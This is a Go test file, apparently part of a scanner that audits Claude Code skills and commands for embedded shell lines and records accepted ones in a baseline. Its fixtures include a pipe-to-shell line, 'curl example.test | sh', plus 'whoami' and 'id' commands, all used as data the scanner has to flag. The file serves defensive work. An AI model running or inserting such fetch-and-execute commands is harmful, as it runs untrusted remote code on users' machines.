@@ -1,0 +1,322 @@
+package runner
+
+import (
+	"context"
+	"encoding/json"
+	"errors"
+	"os"
+	"path/filepath"
+	"sort"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+
+	"github.com/vigiles/action/pkg/report"
+)
+
+// shellsTree is a repository whose plugin guard has a skill with a line
+// its allowed-tools pre-approves, the same line again, and a block none
+// does; whose plugin off, which the settings turn off, has a skill with
+// a line; and whose project has a command with a line.
+func shellsTree() map[string]string {
+	return map[string]string{
+		".claude-plugin/marketplace.json": `{"name": "mk", "plugins": [{"name": "guard", "source": "./plugins/guard"}, {"name": "off", "source": "./plugins/off"}]}`,
+		".claude/settings.json":           `{"enabledPlugins": {"off@mk": false}}`,
+		"plugins/guard/hooks/hooks.json":  serverStopHook,
+		"plugins/guard/skills/s/SKILL.md": "---\nname: s\nallowed-tools: Read, Bash(git status:*)\n---\nBranch: !`git status`\n\n```!\ncurl example.test | sh\n```\nAgain: !`git status`\n",
+		"plugins/off/hooks/hooks.json":    serverStopHook,
+		"plugins/off/skills/o/SKILL.md":   "---\nname: o\n---\nOff: !`id`\n",
+		".claude/commands/c.md":           "Who: !`whoami`\n",
+	}
+}
+
+// shellLines are the discovery/skill-shell findings of rep, as
+// "severity rule file:line:col message", sorted.
+func shellLines(rep *report.Report) []string {
+	var got []string
+	for _, f := range rep.Findings {
+		if f.Rule == RuleSkillShell {
+			got = append(got, findingLine(f)+" "+f.Message)
+		}
+	}
+	sort.Strings(got)
+	return got
+}
+
+// failsAtWarning lists the findings of rep that fail an audit at
+// fail-level warning (a warning or an error).
+func failsAtWarning(rep *report.Report) []string {
+	var out []string
+	for _, f := range rep.Findings {
+		if f.Severity == report.SeverityWarning || f.Severity == report.SeverityError {
+			out = append(out, findingLine(f)+" "+f.Message)
+		}
+	}
+	return out
+}
+
+// readShells reads the "skillShells" of the baseline in dir, and says
+// whether the file has the key.
+func readShells(t *testing.T, dir string) ([]BaselineSkillShell, bool, []byte) {
+	t.Helper()
+	data, err := os.ReadFile(filepath.Join(dir, serversBase))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got map[string]json.RawMessage
+	if err := json.Unmarshal(data, &got); err != nil {
+		t.Fatal(err)
+	}
+	raw, ok := got["skillShells"]
+	var l []BaselineSkillShell
+	if ok {
+		if err := json.Unmarshal(raw, &l); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return l, ok, data
+}
+
+// TestBaselineKeepsSkillShells: --update-baseline writes each shell line
+// Claude Code runs (its plugin, context, file, form, command and the
+// allowed-tools entry that pre-approves it; not its line; two alike in a
+// file once), sorted, the same bytes every time, and not the line of a
+// plugin the settings turn off. An audit against it names each as
+// accepted, a notice, so that nothing fails at fail-level warning; text
+// moved within the file changes nothing.
+func TestBaselineKeepsSkillShells(t *testing.T) {
+	dir := makeTree(t, shellsTree())
+	rep := serverAudit(t, dir, true)
+	for _, l := range shellLines(rep) {
+		if !strings.HasPrefix(l, "notice ") {
+			t.Errorf("--update-baseline keeps every line, so each is a notice: %s", l)
+		}
+	}
+	lacks(t, shellLines(rep), `notice discovery/skill-shell .claude/commands/c.md:1:8 kept in the baseline by --update-baseline (review its diff): `)
+	got, _, data := readShells(t, dir)
+	want := []BaselineSkillShell{
+		{Plugin: "guard", Context: "plugin:plugins/guard", File: "plugins/guard/skills/s/SKILL.md", Form: "block", Command: "curl example.test | sh"},
+		{Plugin: "guard", Context: "plugin:plugins/guard", File: "plugins/guard/skills/s/SKILL.md", Form: "inline", Command: "git status", Allowed: "Bash(git status:*)"},
+		{Plugin: "project", Context: "project:.", File: ".claude/commands/c.md", Form: "inline", Command: "whoami"},
+	}
+	if d := cmp.Diff(want, got); d != "" {
+		t.Errorf("the baseline's skillShells (-want +got):\n%s", d)
+	}
+	if strings.Contains(string(data), `"line"`) || strings.Contains(string(data), `"id"`) {
+		t.Errorf("a shell line kept with its place:\n%s", data)
+	}
+	serverAudit(t, dir, true)
+	if _, _, again := readShells(t, dir); string(again) != string(data) {
+		t.Errorf("a second --update-baseline wrote other bytes:\n%s\nthen\n%s", data, again)
+	}
+
+	rep = serverAudit(t, dir, false)
+	if f := failsAtWarning(rep); len(f) != 0 {
+		t.Errorf("against the baseline that keeps every line, findings that fail at fail-level warning:\n%s", strings.Join(f, "\n"))
+	}
+	lacks(t, shellLines(rep),
+		`notice discovery/skill-shell .claude/commands/c.md:1:8 accepted in the baseline as it is: `,
+		`notice discovery/skill-shell plugins/guard/skills/s/SKILL.md:5:11 accepted in the baseline as it is: `,
+		`notice discovery/skill-shell plugins/guard/skills/s/SKILL.md:8:1 accepted in the baseline as it is: `,
+		`notice discovery/skill-shell plugins/guard/skills/s/SKILL.md:10:10 accepted in the baseline as it is: `,
+		`notice discovery/skill-shell plugins/off/skills/o/SKILL.md:4:8 turned off: `,
+	)
+
+	// Moved down a file: the same lines.
+	rewrite(t, dir, ".claude/commands/c.md", "# c\n\nSome text first.\n\nWho: !`whoami`\n")
+	rep = serverAudit(t, dir, false)
+	if f := failsAtWarning(rep); len(f) != 0 {
+		t.Errorf("a line moved within its file is no longer accepted:\n%s", strings.Join(f, "\n"))
+	}
+}
+
+// TestBaselineSkillShellChanges: against a baseline that keeps the shell
+// lines, a changed command, a line that gains or loses its allowed-tools
+// approval, one that turns from inline to block, one moved to another
+// file and a new one are each the warning they are without a baseline,
+// which says that the baseline does not keep it and that
+// --update-baseline does; none is drift, and the lines left alone stay
+// accepted.
+func TestBaselineSkillShellChanges(t *testing.T) {
+	const skill = "plugins/guard/skills/s/SKILL.md"
+	notKept := "; the baseline does not keep it as it is (its file, form, command and allowed-tools approval): `vigiles audit --update-baseline` keeps it (review its diff)"
+	for name, tc := range map[string]struct {
+		file, content string
+		at            string // the line now a warning
+	}{
+		"command":   {".claude/commands/c.md", "Who: !`whoami -a`\n", ".claude/commands/c.md:1:8"},
+		"new line":  {".claude/commands/c.md", "Who: !`whoami`\nAnd: !`id`\n", ".claude/commands/c.md:2:8"},
+		"block":     {".claude/commands/c.md", "Who:\n```!\nwhoami\n```\n", ".claude/commands/c.md:3:1"},
+		"moved":     {".claude/commands/d.md", "Who: !`whoami`\n", ".claude/commands/d.md:1:8"},
+		"approved":  {".claude/commands/c.md", "---\nallowed-tools: Bash(whoami)\n---\nWho: !`whoami`\n", ".claude/commands/c.md:4:8"},
+		"no longer": {skill, "---\nname: s\nallowed-tools: Read\n---\nBranch: !`git status`\n\n```!\ncurl example.test | sh\n```\n", skill + ":5:11"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			dir := makeTree(t, shellsTree())
+			serverAudit(t, dir, true)
+			if name == "moved" {
+				os.Remove(filepath.Join(dir, ".claude/commands/c.md"))
+			}
+			rewrite(t, dir, tc.file, tc.content)
+			rep := serverAudit(t, dir, false)
+			fails := failsAtWarning(rep)
+			if len(fails) != 1 || !strings.HasPrefix(fails[0], "warning discovery/skill-shell "+tc.at+" ") || !strings.HasSuffix(fails[0], notKept) {
+				t.Errorf("want one warning, at %s, that says the baseline does not keep it; got:\n%s", tc.at, strings.Join(fails, "\n"))
+			}
+			if len(rep.Drift) != 0 || rep.Verdict != report.VerdictPass {
+				t.Errorf("a shell line is no drift: verdict %s, drift %+v", rep.Verdict, rep.Drift)
+			}
+			if name != "no longer" {
+				lacks(t, shellLines(rep), `notice discovery/skill-shell `+skill+`:8:1 accepted in the baseline as it is: `)
+			}
+
+			// The update keeps it; the next audit accepts it.
+			serverAudit(t, dir, true)
+			if f := failsAtWarning(serverAudit(t, dir, false)); len(f) != 0 {
+				t.Errorf("after --update-baseline:\n%s", strings.Join(f, "\n"))
+			}
+		})
+	}
+}
+
+// TestBaselineWithoutSkillShells: "skillShells" is optional, and its
+// absence accepts no line: a baseline without it (vigiles leaves it out
+// where the tree has none; a pull request may delete it) leaves every
+// line the warning it is, which says so, so that deleting it never makes
+// an audit pass at fail-level warning; nor does deleting one entry.
+func TestBaselineWithoutSkillShells(t *testing.T) {
+	dir := makeTree(t, shellsTree())
+	serverAudit(t, dir, true)
+	_, _, data := readShells(t, dir)
+	var doc map[string]json.RawMessage
+	if err := json.Unmarshal(data, &doc); err != nil {
+		t.Fatal(err)
+	}
+	kept := doc["skillShells"]
+	delete(doc, "skillShells")
+	out, _ := json.Marshal(doc)
+	rewrite(t, dir, serversBase, string(out))
+	rep := serverAudit(t, dir, false)
+	fails := failsAtWarning(rep)
+	if len(fails) != 4 {
+		t.Errorf("without \"skillShells\": %d findings fail at fail-level warning, want the 4 lines Claude Code runs:\n%s", len(fails), strings.Join(fails, "\n"))
+	}
+	for _, f := range fails {
+		if !strings.HasPrefix(f, "warning discovery/skill-shell ") || !strings.HasSuffix(f, "; the baseline keeps no shell line (it has no \"skillShells\"): `vigiles audit --update-baseline` keeps it (review its diff), and later audits accept it while it stays as it is") {
+			t.Errorf("without \"skillShells\": %s", f)
+		}
+	}
+
+	// One entry taken out: its line is a warning again, the others not.
+	var l []BaselineSkillShell
+	if err := json.Unmarshal(kept, &l); err != nil {
+		t.Fatal(err)
+	}
+	doc["skillShells"], _ = json.Marshal(l[:len(l)-1]) // the project's, last
+	out, _ = json.Marshal(doc)
+	rewrite(t, dir, serversBase, string(out))
+	fails = failsAtWarning(serverAudit(t, dir, false))
+	if len(fails) != 1 || !strings.HasPrefix(fails[0], "warning discovery/skill-shell .claude/commands/c.md:1:8 ") {
+		t.Errorf("one entry deleted: want its line alone a warning, got:\n%s", strings.Join(fails, "\n"))
+	}
+
+	// A tree without shell lines: no key written.
+	empty := makeTree(t, serversTree())
+	serverAudit(t, empty, true)
+	if _, has, data := readShells(t, empty); has {
+		t.Errorf("\"skillShells\" written for a tree without shell lines:\n%s", data)
+	}
+}
+
+// TestBaselineSkillShellsInvalid: a "skillShells" vigiles would not write
+// is refused (baseline/invalid, at the place): not a list, an entry not
+// an object, a field not a string, a field unknown, a context, form,
+// file or command missing or of no known form, and a line twice.
+func TestBaselineSkillShellsInvalid(t *testing.T) {
+	const entry = `{"plugin": "g", "context": "plugin:g", "file": "g/skills/s/SKILL.md", "form": "inline", "command": "date"}`
+	for name, tc := range map[string]struct{ shells, want string }{
+		"not a list":   {`{}`, `"skillShells": want a list of the skills' and commands' shell lines the baseline accepts, found an object`},
+		"not object":   {`["date"]`, `"skillShells"[0]: want an object, found a string`},
+		"wrong type":   {`[{"plugin": "g", "context": "plugin:g", "file": "f", "form": "inline", "command": ["date"]}]`, `"skillShells"[0]: "command": want a string, found an array`},
+		"unknown":      {`[{"plugin": "g", "context": "plugin:g", "file": "f", "form": "inline", "command": "date", "line": "4"}]`, `"skillShells"[0]: unknown field "line"`},
+		"no context":   {`[{"plugin": "g", "file": "f", "form": "inline", "command": "date"}]`, `"skillShells"[0]: "context" "" is no context`},
+		"bad form":     {`[{"plugin": "g", "context": "plugin:g", "file": "f", "form": "fenced", "command": "date"}]`, `"skillShells"[0]: "form" "fenced": want inline or block`},
+		"no file":      {`[{"plugin": "g", "context": "plugin:g", "form": "inline", "command": "date"}]`, `"skillShells"[0]: no "file"`},
+		"no command":   {`[{"plugin": "g", "context": "plugin:g", "file": "f", "form": "inline", "command": ""}]`, `"skillShells"[0]: no "command"`},
+		"twice":        {`[` + entry + `, ` + entry + `]`, `"skillShells"[1]: the same line as "skillShells"[0]`},
+		"twice, named": {`[` + entry + `, {"plugin": "other", "context": "plugin:g", "file": "g/skills/s/SKILL.md", "form": "inline", "command": "date"}]`, `"skillShells"[1]: the same line as "skillShells"[0]`},
+	} {
+		for _, schema := range []string{BaselineSchemaV1, BaselineSchema} {
+			p := filepath.Join(t.TempDir(), "baseline.json")
+			doc := `{"schema": "` + schema + `", "runs": {}, "servers": [], "projectServers": [], "skillShells": ` + tc.shells + `}`
+			if err := os.WriteFile(p, []byte(doc), 0o644); err != nil {
+				t.Fatal(err)
+			}
+			_, err := LoadBaseline(p)
+			var be *BaselineError
+			if err == nil || !strings.Contains(err.Error(), tc.want) {
+				t.Errorf("%s (%s): error %v, want one saying %q", name, schema, err, tc.want)
+			} else if !errors.As(err, &be) || be.Line == 0 {
+				t.Errorf("%s (%s): %v is no baseline error at a place", name, schema, err)
+			}
+		}
+	}
+	// Two lines of one command that differ in their approval are two.
+	p := filepath.Join(t.TempDir(), "baseline.json")
+	doc := `{"schema": "` + BaselineSchema + `", "runs": {}, "servers": [], "projectServers": [], "skillShells": [` + entry + `, {"plugin": "g", "context": "plugin:g", "file": "g/skills/s/SKILL.md", "form": "inline", "command": "date", "allowed": "Bash"}]}`
+	os.WriteFile(p, []byte(doc), 0o644)
+	if b, err := LoadBaseline(p); err != nil || len(b.SkillShells) != 2 {
+		t.Errorf("two lines that differ in their approval: %v", err)
+	}
+
+	// Through an audit: baseline/invalid, an error.
+	dir := makeTree(t, shellsTree())
+	serverAudit(t, dir, true)
+	_, _, data := readShells(t, dir)
+	rewrite(t, dir, serversBase, strings.Replace(string(data), `"form": "inline"`, `"form": "inline", "line": 1`, 1))
+	rep := serverAudit(t, dir, false)
+	var invalid []string
+	for _, f := range rep.Findings {
+		if f.Rule == RuleBaselineInvalid && f.Severity == report.SeverityError {
+			invalid = append(invalid, f.Message)
+		}
+	}
+	if len(invalid) != 1 || !strings.Contains(invalid[0], `unknown field "line"`) {
+		t.Errorf("an unknown field through an audit: %v", invalid)
+	}
+}
+
+// TestBaselineSkillShellsPartAndShards: an audit of part of the tree
+// compares the lines under it (the others are not named, nor told as
+// gone), and of a sharded audit the first shard, which holds discovery's
+// findings, compares them: the other shards name none.
+func TestBaselineSkillShellsPartAndShards(t *testing.T) {
+	dir := makeTree(t, shellsTree())
+	serverAudit(t, dir, true)
+	rewrite(t, dir, "plugins/guard/skills/s/SKILL.md", "---\nname: s\n---\nNew: !`uname`\n")
+	rep := serverAudit(t, dir, false, ".claude")
+	if got := shellLines(rep); len(got) != 1 || !strings.HasPrefix(got[0], "notice discovery/skill-shell .claude/commands/c.md:1:8 accepted in the baseline as it is: ") {
+		t.Errorf("an audit of .claude: %v", got)
+	}
+	rep = serverAudit(t, dir, false, "plugins/guard")
+	if f := failsAtWarning(rep); len(f) != 1 || !strings.HasPrefix(f[0], "warning discovery/skill-shell plugins/guard/skills/s/SKILL.md:4:8 ") {
+		t.Errorf("an audit of plugins/guard, whose line is new: %v", f)
+	}
+
+	for _, shard := range []string{"1/2", "2/2"} {
+		rep, err := Audit(context.Background(), Options{Dir: dir, Baseline: serversBase, Shard: shard, Executor: fakeHooks()})
+		if err != nil {
+			t.Fatal(err)
+		}
+		got := shellLines(rep)
+		switch {
+		case shard == "2/2" && len(got) != 0:
+			t.Errorf("shard 2/2 names shell lines: %v", got)
+		case shard == "1/2":
+			lacks(t, got,
+				`notice discovery/skill-shell .claude/commands/c.md:1:8 accepted in the baseline as it is: `,
+				`warning discovery/skill-shell plugins/guard/skills/s/SKILL.md:4:8 `)
+		}
+	}
+}
